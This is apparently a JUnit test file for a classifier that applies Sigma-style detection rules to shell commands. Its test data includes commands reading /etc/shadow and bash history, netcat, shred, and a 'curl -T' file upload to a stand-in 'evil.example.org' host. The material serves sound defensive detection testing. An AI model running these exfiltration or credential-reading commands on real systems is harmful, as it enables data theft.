package io.sallyport.policy.classification;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.policy.command.CommandLine;
import io.sallyport.policy.command.Normaliser;
import io.sallyport.policy.command.SessionState;
import io.sallyport.recorder.rule.RuleProblem;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Rules as people bring them, of other logs than that of processes.
class LogsourcesTest {
    private static String rule(String logsource, String detection) {
        return """
        title: Brought along
        id: brought
        status: stable
        related: [{id: other, type: derived}]
        author: Carol
        level: medium
        logsource: {%s}
        detection:
            %s
            condition: s
        """
                .formatted(logsource, detection);
    }

    private static RuleBook book(String logsource, String detection) throws Exception {
        return RuleBook.of(List.of(new RuleText("own.yml", rule(logsource, detection))));
    }

    private static boolean matches(RuleBook book, String text) {
        SessionState state = SessionState.atStart(SessionState.Dialect.BASH, "op", Commands.HOME);
        CommandLine line = new Normaliser().read(text, state).line();
        return book.classifier().classify(line, Commands.circumstances()).matched().stream()
                .anyMatch(match -> match.rule().equals("brought") && match.certain());
    }

    @Test
    void what_waits_for_a_rule_that_is_left_out_is_left_out_with_it() throws Exception {
        String correlations =
                """
                ---
                title: Often
                id: often
                correlation: {type: event_count, rules: [brought], group-by: [person], timespan: 5m, condition: {gte: 9}}
                ---
                title: Oftener
                id: oftener
                correlation: {type: event_count, rules: [often], group-by: [person], timespan: 1h, condition: {gte: 3}}
                """;
        RuleBook book =
                RuleBook.of(
                        List.of(
                                new RuleText(
                                        "own.yml",
                                        rule("product: linux, service: sshd", "s: [Accepted]")
                                                + correlations)));
        assertThat(book.leftOut()).hasSize(3);
        assertThat(book.correlations()).noneMatch(one -> one.id().startsWith("often"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    product: windows, category: process_creation; s: {Image: x}; product `windows`
                    product: linux, category: network_connection; s: {Image: x}; `network_connection`
                    product: linux, service: sshd; s: [Accepted];                service `sshd`
                    product: linux, service: auditd; s: {type: SYSCALL, syscall: execve}; no `syscall`
                    product: linux, service: auditd; s: {type: PATH, nametype: DELETE};   no `nametype`
                    """)
    void a_rule_that_no_command_can_answer_is_left_out_and_says_why(
            String logsource, String detection, String why) throws Exception {
        RuleBook book = book(logsource, detection);
        assertThat(book.rule("brought")).isEmpty();
        assertThat(book.leftOut())
                .singleElement()
                .satisfies(problem -> {
                    assertThat(problem.kind()).isEqualTo(RuleProblem.Kind.UNSUPPORTED);
                    assertThat(problem.file()).isEqualTo("own.yml");
                    assertThat(problem.line()).isEqualTo(1);
                    assertThat(problem.message()).contains(why);
                });
    }

    @Test
    void words_beside_fields_are_looked_for_in_the_command() throws Exception {
        RuleBook both =
                RuleBook.of(
                        List.of(
                                new RuleText(
                                        "own.yml",
                                        rule(
                                                        "service: auditd",
                                                        "r: {type: EXECVE}\n    w: [history]")
                                                .replace("condition: s", "condition: r and w"))));
        assertThat(matches(both, "cd /; sudo cat ~/.bash_history")).isTrue();
        assertThat(matches(both, "ls; > .bash_history")).isFalse();
        assertThat(matches(both, "cat notes")).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    service: auditd; s: {type: EXECVE, a0: tar, a1: cf}; tar cf x.tar y; tar tf x.tar
                    service: auditd; s: {type: PATH, name: /etc/shadow}; cat /etc/shadow; cat /etc/group
                    service: auditd; s: {exe|endswith: /nc, comm: nc}; nc host 1; nd host 1
                    category: file_event; s: {TargetFilename: /etc/x}; echo a > /etc/x; cat /etc/x
                    category: file_event; s: {TargetFilename: /etc/x}; cp y /etc/x; cp /etc/x y
                    category: file_event; s: {TargetFilename: /etc/x}; date | tee /etc/x; tee /etc/y
                    category: file_event; s: {TargetFilename: /etc/x}; dd if=a of=/etc/x; dd if=/etc/x of=a
                    category: file_event; s: {TargetFilename: /etc/x}; wget -O /etc/x http://h; wget http://h/etc/x
                    category: file_event; s: {TargetFilename: /etc/x}; sed -i s/a/b/ /etc/x; sed s/a/b/ /etc/x
                    category: ''; s: ['rm -f ', shred]; rm -f x; rm x
                    """)
    void a_rule_of_another_log_sees_what_a_command_tells_of_it(
            String logsource, String detection, String match, String pass) throws Exception {
        RuleBook book = book("product: linux, " + logsource, detection);
        assertThat(book.leftOut()).isEmpty();
        assertThat(matches(book, match)).isTrue();
        assertThat(matches(book, pass)).isFalse();
    }

    @Test
    void a_filter_of_ones_own_narrows_a_shipped_rule() throws Exception {
        String id = "c637c7fe-3dde-4628-84d8-ebd1bdeef973";
        String filter =
                """
                title: Our collector
                logsource: {category: process_creation, product: linux}
                filter:
                    rules: [%s]
                    ours: {argv|startswith: 'https://collector.example.org/'}
                    condition: not ours
                """
                        .formatted(id);
        RuleBook shipped = RuleBook.of(List.of());
        RuleBook narrowed = RuleBook.of(List.of(new RuleText("own.yml", filter)));
        assertThat(sent(shipped, id, "https://collector.example.org/x")).isTrue();
        assertThat(sent(narrowed, id, "https://collector.example.org/x")).isFalse();
        assertThat(sent(narrowed, id, "https://evil.example.org/x")).isTrue();
        assertThat(narrowed.rule(id).orElseThrow().version())
                .isNotEqualTo(shipped.rule(id).orElseThrow().version());
    }

    private static boolean sent(RuleBook book, String id, String url) {
        SessionState state = SessionState.atStart(SessionState.Dialect.BASH, "op", Commands.HOME);
        CommandLine line = new Normaliser().read("curl -T x " + url, state).line();
        return book.classifier().classify(line, Commands.circumstances()).matched().stream()
                .anyMatch(match -> match.rule().equals(id));
    }
}
